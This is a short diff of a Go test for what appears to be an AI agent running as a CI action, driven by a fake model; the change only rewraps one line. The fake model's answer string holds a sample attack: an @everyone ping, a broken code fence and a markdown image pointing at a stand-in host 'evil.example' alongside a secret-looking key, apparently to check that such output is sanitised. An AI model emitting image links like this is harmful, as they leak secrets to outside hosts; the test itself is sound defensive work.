@@ -185,8 +185,8 @@ func (j *actionJob) left(name string) string {
 func TestW6_Action(t *testing.T) {
 	t.Parallel()
 	answer := "Mended, @everyone: ````x ![](https://evil.example/?code) the key is key-of-an-action."
-	url, _ := serve(t, nil, say("The operator is wrong.", use("edit_file", object{"file_path": "sum.sh",
-		"old_string": "-", "new_string": "+"})), fakellm.Turn{Text: answer})
+	url, _ := serve(t, nil, say("The operator is wrong.", use("edit_file",
+		object{"file_path": "sum.sh", "old_string": "-", "new_string": "+"})), fakellm.Turn{Text: answer})
 	j := newAction(t, url)
 	j.inputs["context"] = "An issue says: sums are wrong."
 	for _, name := range []string{"prepare", "run", "comment"} {
